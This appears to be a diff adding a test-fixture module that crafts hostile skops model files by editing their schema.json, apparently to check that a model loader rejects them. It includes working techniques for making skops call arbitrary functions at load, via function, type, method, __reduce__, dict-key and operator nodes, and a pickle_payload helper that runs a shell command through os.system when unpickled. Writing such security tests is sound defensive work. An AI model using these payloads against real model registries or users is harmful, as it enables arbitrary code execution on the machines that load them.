@@ -1,0 +1,232 @@
+"""Hand-made hostile skops artifacts: a real skops file whose schema.json is edited.
+
+Each maker takes the bytes of `base_model()` saved with skops, and returns bytes an
+attacker could write into a registry. The sentinel path is what a payload would create
+if it ever ran.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import pickle
+import zipfile
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import numpy as np
+
+Schema = dict[str, Any]
+
+
+def base_model(X: np.ndarray, y: np.ndarray) -> Any:
+    """A pipeline whose first step calls a function (``numpy.log1p``) on the input."""
+    from sklearn.linear_model import LogisticRegression
+    from sklearn.pipeline import make_pipeline
+    from sklearn.preprocessing import FunctionTransformer
+
+    return make_pipeline(FunctionTransformer(np.log1p), LogisticRegression(max_iter=1000)).fit(X, y)
+
+
+def rewrite(data: bytes, edit: Callable[[Schema], None]) -> bytes:
+    """*data* with its schema.json changed by *edit* (every other member kept)."""
+    source = zipfile.ZipFile(io.BytesIO(data))
+    schema = json.loads(source.read("schema.json"))
+    edit(schema)
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as target:
+        for item in source.infolist():
+            if item.filename != "schema.json":
+                target.writestr(item, source.read(item.filename))
+        target.writestr("schema.json", json.dumps(schema))
+    return out.getvalue()
+
+
+def nodes(tree: Any) -> Iterator[dict[str, Any]]:
+    if isinstance(tree, dict):
+        if isinstance(tree.get("__loader__"), str):
+            yield tree
+        for value in tree.values():
+            yield from nodes(value)
+    elif isinstance(tree, list):
+        for value in tree:
+            yield from nodes(value)
+
+
+def node(schema: Schema, loader: str, module: str | None = None) -> dict[str, Any]:
+    return next(
+        n
+        for n in nodes(schema)
+        if n["__loader__"] == loader and (module is None or n["__module__"] == module)
+    )
+
+
+def json_node(value: Any) -> dict[str, Any]:
+    return {
+        "__class__": "str",
+        "__module__": "builtins",
+        "__loader__": "JsonNode",
+        "content": json.dumps(value),
+        "is_json": True,
+    }
+
+
+def tuple_node(*items: Any) -> dict[str, Any]:
+    return {
+        "__class__": "tuple",
+        "__module__": "builtins",
+        "__loader__": "TupleNode",
+        "content": [json_node(i) for i in items],
+    }
+
+
+def estimator_attrs(schema: Schema) -> dict[str, Any]:
+    """The attribute dict of the pipeline's LogisticRegression (a DictNode's content)."""
+    return node(schema, "ObjectNode", "sklearn.linear_model._logistic")["content"]["content"]
+
+
+def function(module: str, name: str) -> Callable[[Schema], None]:
+    """Make the FunctionTransformer call ``module.name`` instead of numpy.log1p."""
+
+    def edit(schema: Schema) -> None:
+        target = node(schema, "FunctionNode", "numpy")
+        target["__module__"], target["__class__"] = module, name
+
+    return edit
+
+
+def type_node(module: str, name: str) -> Callable[[Schema], None]:
+    """Make the FunctionTransformer's func a TypeNode naming ``module.name``."""
+
+    def edit(schema: Schema) -> None:
+        target = node(schema, "FunctionNode", "numpy")
+        target.update({"__module__": module, "__class__": name, "__loader__": "TypeNode"})
+
+    return edit
+
+
+def method_of_module(module: str, attr: str, method: str) -> Callable[[Schema], None]:
+    """The func becomes ``getattr(<module.attr>, method)`` through a MethodNode."""
+
+    def edit(schema: Schema) -> None:
+        target = node(schema, "FunctionNode", "numpy")
+        target.clear()
+        target.update(
+            {
+                "__class__": attr,
+                "__module__": module,
+                "__loader__": "MethodNode",
+                "content": {
+                    "func": method,
+                    "obj": {"__class__": attr, "__module__": module, "__loader__": "TypeNode"},
+                },
+            }
+        )
+
+    return edit
+
+
+def called_at_load(loader: str, module: str, name: str, *args: Any) -> Callable[[Schema], None]:
+    """Add an attribute that skops builds by calling ``module.name(*args)`` at load."""
+
+    def edit(schema: Schema) -> None:
+        estimator_attrs(schema)["evil_"] = {
+            "__class__": name,
+            "__module__": module,
+            "__loader__": loader,
+            "content": tuple_node(*args),
+        }
+
+    return edit
+
+
+def reduce_constructor(module: str, name: str, *args: Any) -> Callable[[Schema], None]:
+    """A LossNode (a ``__reduce__`` node) whose constructor is ``module.name(*args)``."""
+
+    def edit(schema: Schema) -> None:
+        estimator_attrs(schema)["evil_"] = {
+            "__class__": name,
+            "__module__": module,
+            "__loader__": "LossNode",
+            "__reduce__": {"args": tuple_node(*args)},
+            "content": {
+                "__class__": "dict",
+                "__module__": "builtins",
+                "__loader__": "DictNode",
+                "content": {},
+                "key_types": {
+                    "__class__": "list",
+                    "__module__": "builtins",
+                    "__loader__": "ListNode",
+                    "content": [],
+                },
+            },
+        }
+
+    return edit
+
+
+def dict_key_type(module: str, name: str, key: str) -> Callable[[Schema], None]:
+    """A dict whose key type is ``module.name``: skops calls it on the key at load."""
+
+    def edit(schema: Schema) -> None:
+        estimator_attrs(schema)["evil_"] = {
+            "__class__": "dict",
+            "__module__": "builtins",
+            "__loader__": "DictNode",
+            "content": {key: json_node(1)},
+            "key_types": {
+                "__class__": "list",
+                "__module__": "builtins",
+                "__loader__": "ListNode",
+                "content": [{"__class__": name, "__module__": module, "__loader__": "TypeNode"}],
+            },
+        }
+
+    return edit
+
+
+def operator_func(name: str, *args: Any) -> Callable[[Schema], None]:
+    """The func becomes ``operator.<name>(*args)`` (an OperatorFuncNode)."""
+
+    def edit(schema: Schema) -> None:
+        target = node(schema, "FunctionNode", "numpy")
+        target.clear()
+        target.update(
+            {
+                "__class__": name,
+                "__module__": "operator",
+                "__loader__": "OperatorFuncNode",
+                "attrs": tuple_node(*args),
+            }
+        )
+
+    return edit
+
+
+def loader(name: str) -> Callable[[Schema], None]:
+    """The func's node claims a node type of *name*."""
+
+    def edit(schema: Schema) -> None:
+        node(schema, "FunctionNode", "numpy")["__loader__"] = name
+
+    return edit
+
+
+def protocol(number: Any) -> Callable[[Schema], None]:
+    def edit(schema: Schema) -> None:
+        schema["protocol"] = number
+
+    return edit
+
+
+def pickle_payload(command: str) -> bytes:
+    """Not a skops file at all: a pickle that runs *command* when unpickled."""
+
+    class Payload:
+        def __reduce__(self):
+            import os
+
+            return (os.system, (command,))
+
+    return pickle.dumps(Payload())
